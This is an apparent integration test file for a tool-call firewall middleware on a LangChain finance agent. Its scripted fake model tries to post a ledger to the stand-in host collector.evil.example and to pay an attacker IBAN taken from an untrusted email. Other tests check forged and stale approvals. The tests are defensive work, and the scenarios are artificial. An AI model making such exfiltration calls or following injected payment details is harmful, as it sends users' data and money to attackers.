// Integration: langchain's createAgent loop with its own fake model, the shared Rego
// policies and the real firewall; every run ends by verifying the transcript offline.
import { Command, MemorySaver } from '@langchain/langgraph';
import type { Kit } from '@writ/example-kit';
import { WritError } from '@writ/core';
import type { FirewallSession } from '@writ/core';
import { AIMessage, HumanMessage, createAgent, fakeModel } from 'langchain';
import type { BaseMessage } from 'langchain';
import { describe, expect, it } from 'vitest';
import type { WritApprovalRequest, WritCallEvent } from '../src/index.ts';
import { writMiddleware } from '../src/index.ts';
import { ATTACKER_IBAN, USER_IBAN, entries, entriesFor, financeTools, openKit } from './support.ts';

type Call = { name: string; args: Record<string, unknown>; id: string };

function agentFor(options: { session: FirewallSession; script: Call[][]; events?: WritCallEvent[] }) {
  const { tools, ran } = financeTools();
  let model = fakeModel();
  for (const calls of options.script) model = model.respondWithTools(calls);
  model = model.respond(new AIMessage('done'));
  const onEvent = (event: WritCallEvent) => options.events?.push(event);
  const agent = createAgent({
    model,
    tools,
    middleware: [writMiddleware({ session: options.session, onEvent })],
    checkpointer: new MemorySaver(),
    systemPrompt: 'You are the accounts-payable assistant of ACME.',
  });
  return { agent, model, ran };
}

const config = { configurable: { thread_id: 'thread-1' } };
const ask = (text: string) => ({ messages: [new HumanMessage(text)] });

function toolMessage(messages: BaseMessage[], callId: string) {
  const found = messages.find((m) => m.getType() === 'tool' && (m as unknown as { tool_call_id: string }).tool_call_id === callId);
  if (found === undefined) throw new Error(`no tool message for ${callId}`);
  return found as BaseMessage & { status?: string };
}

function interruptOf(result: unknown): WritApprovalRequest {
  const interrupts = (result as { __interrupt__?: { value: WritApprovalRequest }[] }).__interrupt__;
  if (interrupts?.length !== 1) throw new Error('expected one interrupt');
  return interrupts[0]!.value;
}

async function finish(kit: Kit, session: FirewallSession) {
  await session.end();
  const report = await kit.finish();
  expect(report.valid).toBe(true);
}

describe('writMiddleware (createAgent)', () => {
  it('runs an allowed payment once and records one decision and one receipt', async () => {
    const { kit, session } = await openKit();
    const { agent, ran } = agentFor({ session, script: [[{ name: 'vendor_pay', args: { iban: USER_IBAN, amount: 120 }, id: 'c1' }]] });
    const result = await agent.invoke(ask(`Pay 120 EUR to ${USER_IBAN}`), config);
    expect(ran.vendor_pay).toBe(1);
    expect(toolMessage(result.messages, 'c1').text).toBe(`paid 120 to ${USER_IBAN}`);
    expect(await entriesFor(kit, { session, type: 'decision-made', callId: 'c1' })).toHaveLength(1);
    expect(await entriesFor(kit, { session, type: 'effect-executed', callId: 'c1' })).toHaveLength(1);
    await finish(kit, session);
  });

  it('denies a call to a host outside the allowlist: not executed, the model reads why', async () => {
    const { kit, session } = await openKit();
    const { agent, model, ran } = agentFor({ session, script: [[{ name: 'http_post', args: { url: 'https://collector.evil.example/x', body: 'ledger' }, id: 'c1' }]] });
    const result = await agent.invoke(ask('Send the ledger to our partner'), config);
    expect(ran.http_post).toBe(0);
    const message = toolMessage(result.messages, 'c1');
    expect(message.status).toBe('error');
    expect(message.text).toMatch(/collector\.evil\.example|egress|host/i);
    const lastCall = model.calls.at(-1)!.messages;
    expect(lastCall.some((m) => m.getType() === 'tool' && m.text === message.text)).toBe(true);
    expect(await entriesFor(kit, { session, type: 'effect-executed', callId: 'c1' })).toHaveLength(0);
    await finish(kit, session);
  });

  it('blocks an IBAN that only an email (untrusted tool output) supplied', async () => {
    const { kit, session } = await openKit();
    const { agent, ran } = agentFor({
      session,
      script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'vendor_pay', args: { iban: ATTACKER_IBAN, amount: 120 }, id: 'c2' }]],
    });
    const result = await agent.invoke(ask('Pay the vendor invoice from my inbox, 120 EUR'), config);
    expect(ran).toMatchObject({ email_read: 1, vendor_pay: 0 });
    const message = toolMessage(result.messages, 'c2');
    expect(message.status).toBe('error');
    expect(message.text).toMatch(/taint|untrusted/i);
    const [decision] = await entriesFor(kit, { session, type: 'decision-made', callId: 'c2' });
    expect(decision?.body.decision).toBe('deny');
    await finish(kit, session);
  });

  it('records the same tainted payment in shadow mode, executes it, and says what enforce would have done', async () => {
    const { kit, session } = await openKit('shadow');
    const events: WritCallEvent[] = [];
    const { agent, ran } = agentFor({
      session,
      events,
      script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'vendor_pay', args: { iban: ATTACKER_IBAN, amount: 120 }, id: 'c2' }]],
    });
    const result = await agent.invoke(ask('Pay the vendor invoice from my inbox, 120 EUR'), config);
    expect(ran.vendor_pay).toBe(1);
    expect(toolMessage(result.messages, 'c2').text).toBe(`paid 120 to ${ATTACKER_IBAN}`);
    const event = events.find((e) => e.callId === 'c2')!;
    expect(event.outcome).toBe('executed');
    expect(event.guard).toMatchObject({ mode: 'shadow', decision: 'deny', verdict: 'execute', wouldHave: 'block' });
    const [decision] = await entriesFor(kit, { session, type: 'decision-made', callId: 'c2' });
    expect(decision?.body).toMatchObject({ decision: 'deny', mode: 'shadow' });
    await finish(kit, session);
  });

  it('pauses a large payment for approval and runs it once after a signed approval', async () => {
    const { kit, session } = await openKit();
    const { agent, ran } = agentFor({ session, script: [[{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9000 }, id: 'c1' }]] });
    const paused = await agent.invoke(ask(`Pay invoice 4411: 9000 EUR to ${USER_IBAN}`), config);
    const request = interruptOf(paused);
    expect(request).toMatchObject({ type: 'writ/approval-request', tool: 'vendor_pay_large', callId: 'c1', refused: false });
    expect(ran.vendor_pay_large).toBe(0);
    const resumed = await agent.invoke(new Command({ resume: kit.approve(request.pending, 'manager') }), config);
    expect(ran.vendor_pay_large).toBe(1);
    expect(toolMessage(resumed.messages, 'c1').text).toBe(`paid 9000 to ${USER_IBAN}`);
    // One decision per tool call: the release after the approval cites it; re-runs of the node added nothing.
    const decisions = await entriesFor(kit, { session, type: 'decision-made', callId: 'c1' });
    expect(decisions.map((e) => e.body.decision)).toEqual(['require-approval']);
    expect((await entriesFor(kit, { session, type: 'token-issued', callId: 'c1' })).map((e) => e.body.decisionId)).toEqual([decisions[0]!.body.decisionId]);
    expect(await entriesFor(kit, { session, type: 'effect-executed', callId: 'c1' })).toHaveLength(1);
    await finish(kit, session);
  });

  it('refuses a forged approval (asks again), then a rejection tells the model; never executed', async () => {
    const { kit, session } = await openKit();
    const { agent, ran } = agentFor({ session, script: [[{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9000 }, id: 'c1' }]] });
    const request = interruptOf(await agent.invoke(ask(`Pay invoice 4411: 9000 EUR to ${USER_IBAN}`), config));
    const again = interruptOf(await agent.invoke(new Command({ resume: kit.forge(request.pending) }), config));
    expect(again).toMatchObject({ callId: 'c1', refused: true });
    expect(ran.vendor_pay_large).toBe(0);
    const done = await agent.invoke(new Command({ resume: { reject: 'no valid approval' } }), config);
    const message = toolMessage(done.messages, 'c1');
    expect(message.status).toBe('error');
    expect(message.text).toContain('no valid approval');
    expect(ran.vendor_pay_large).toBe(0);
    expect((await entries(kit, session)).filter((e) => e.type === 'approval-recorded')).toHaveLength(0);
    await finish(kit, session);
  });

  it('refuses a stale approval signed for an earlier intent (another amount)', async () => {
    const { kit, session } = await openKit();
    const { agent, ran } = agentFor({
      session,
      script: [[{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9000 }, id: 'c1' }], [{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9500 }, id: 'c2' }]],
    });
    const first = interruptOf(await agent.invoke(ask(`Pay 9000 EUR to ${USER_IBAN}, or 9500 if the fee applies`), config));
    const old = kit.approve(first.pending, 'manager');
    // The model's next step asks for 9500 right after the first payment ran.
    const second = interruptOf(await agent.invoke(new Command({ resume: old }), config));
    expect(ran.vendor_pay_large).toBe(1);
    expect(second.callId).toBe('c2');
    const refused = interruptOf(await agent.invoke(new Command({ resume: old }), config));
    expect(refused).toMatchObject({ callId: 'c2', refused: true });
    expect(ran.vendor_pay_large).toBe(1);
    await finish(kit, session);
  });

  it('refuses invalid raw arguments before the firewall sees them', async () => {
    const { kit, session } = await openKit();
    const { agent, ran } = agentFor({ session, script: [[{ name: 'vendor_pay', args: { iban: USER_IBAN, amount: 'lots' }, id: 'c1' }]] });
    const result = await agent.invoke(ask(`Pay the vendor at ${USER_IBAN}`), config);
    expect(ran.vendor_pay).toBe(0);
    const message = toolMessage(result.messages, 'c1');
    expect(message.status).toBe('error');
    expect(message.text).toMatch(/^Invalid arguments for vendor_pay: amount:/);
    expect(await entriesFor(kit, { session, type: 'decision-made', callId: 'c1' })).toHaveLength(0);
    await finish(kit, session);
  });

  it('shows the advisory warning to the model next to the output', async () => {
    const { kit, session } = await openKit('advisory');
    const { agent, ran } = agentFor({
      session,
      script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'vendor_pay', args: { iban: ATTACKER_IBAN, amount: 120 }, id: 'c2' }]],
    });
    const result = await agent.invoke(ask('Pay the vendor invoice from my inbox, 120 EUR'), config);
    expect(ran.vendor_pay).toBe(1);
    expect(toolMessage(result.messages, 'c2').text).toMatch(/^paid 120 to .*\n\n\[writ advisory\] /s);
    await finish(kit, session);
  });

  it('records each system, user and tool message as basis once across model calls', async () => {
    const { kit, session } = await openKit();
    const { agent } = agentFor({ session, script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'email_read', args: {}, id: 'c2' }]] });
    await agent.invoke(ask('Read my inbox twice'), config);
    const basis = (await entries(kit, session)).filter((e) => e.type === 'basis-added').map((e) => `${String(e.body.kind)}/${String(e.body.authority)}`);
    // Three model calls saw the system prompt and the user turn: each recorded once. The two
    // reads returned the same text: two items all the same, one per call (an item's id covers
    // its source, the tool-call id, as well as its content).
    expect(basis).toEqual(['instruction/verified', 'instruction/user', 'tool-output/untrusted', 'tool-output/untrusted']);
    await finish(kit, session);
  });
  it('runs a parallel sibling call once when another call of the same AI message pauses for approval', async () => {
    const { kit, session } = await openKit();
    const { agent, ran } = agentFor({
      session,
      script: [[{ name: 'vendor_pay', args: { iban: USER_IBAN, amount: 120 }, id: 'c1' }, { name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9000 }, id: 'c2' }]],
    });
    const request = interruptOf(await agent.invoke(ask(`Pay 120 EUR and 9000 EUR to ${USER_IBAN}`), config));
    expect(request.callId).toBe('c2');
    await agent.invoke(new Command({ resume: kit.approve(request.pending, 'manager') }), config);
    expect(ran).toMatchObject({ vendor_pay: 1, vendor_pay_large: 1 });
    expect(await entriesFor(kit, { session, type: 'decision-made', callId: 'c1' })).toHaveLength(1);
    expect(await entriesFor(kit, { session, type: 'effect-executed', callId: 'c1' })).toHaveLength(1);
    await finish(kit, session);
  });

  it('fails closed without a checkpointer: the call that needs approval does not run', async () => {
    const { kit, session } = await openKit();
    const { tools, ran } = financeTools();
    const model = fakeModel().respondWithTools([{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9000 }, id: 'c1' }]).respond(new AIMessage('done'));
    const agent = createAgent({ model, tools, middleware: [writMiddleware({ session })] });
    await expect(agent.invoke(ask(`Pay 9000 EUR to ${USER_IBAN}`))).rejects.toThrow();
    expect(ran.vendor_pay_large).toBe(0);
    await finish(kit, session);
  });
  it('never starts the tool when the firewall throws at the gate', async () => {
    const { kit, session } = await openKit();
    const timeout = () => Promise.reject(new WritError('ERR_FIREWALL_TIMEOUT', 'a firewall store did not answer in time'));
    const broken: FirewallSession = { ...session, guard: timeout, execute: timeout };
    const { agent, ran } = agentFor({ session: broken, script: [[{ name: 'vendor_pay', args: { iban: USER_IBAN, amount: 120 }, id: 'c1' }]] });
    await expect(agent.invoke(ask(`Pay 120 EUR to ${USER_IBAN}`), config)).rejects.toThrow(/did not answer/);
    expect(ran.vendor_pay).toBe(0);
    expect(await entriesFor(kit, { session, type: 'effect-executed', callId: 'c1' })).toHaveLength(0);
    await finish(kit, session);
  });
  it('collects dual-control signatures one resume at a time and records each approval once', async () => {
    const { kit, session } = await openKit();
    const { agent, ran } = agentFor({ session, script: [[{ name: 'payments_transfer', args: { iban: USER_IBAN, amount: 50_000 }, id: 'c1' }]] });
    const request = interruptOf(await agent.invoke(ask(`Transfer 50000 EUR to ${USER_IBAN}`), config));
    expect(request.pending.rule).toMatchObject({ threshold: 2 });
    const half = interruptOf(await agent.invoke(new Command({ resume: kit.approve(request.pending, 'finance-manager') }), config));
    expect(half.refused).toBe(true);
    expect(ran.payments_transfer).toBe(0);
    await agent.invoke(new Command({ resume: kit.approve(request.pending, 'security-officer') }), config);
    expect(ran.payments_transfer).toBe(1);
    expect((await entries(kit, session)).filter((e) => e.type === 'approval-recorded')).toHaveLength(2);
    await finish(kit, session);
  });

  it('records each tool output as basis once, when the tool produces it and not again when the model reads it', async () => {
    const { kit, session } = await openKit();
    const { agent } = agentFor({ session, script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'vendor_pay', args: { iban: USER_IBAN, amount: 120 }, id: 'c2' }]] });
    await agent.invoke(ask(`Check my inbox, then pay 120 EUR to ${USER_IBAN}`), config);
    const outputs = (await entries(kit, session)).filter((e) => e.type === 'basis-added' && e.body.kind === 'tool-output');
    expect(outputs.map((e) => e.body.source)).toEqual(['tool:email_read#c1', 'tool:vendor_pay#c2']);
    expect((await kit.finish()).valid).toBe(true);
  });
});
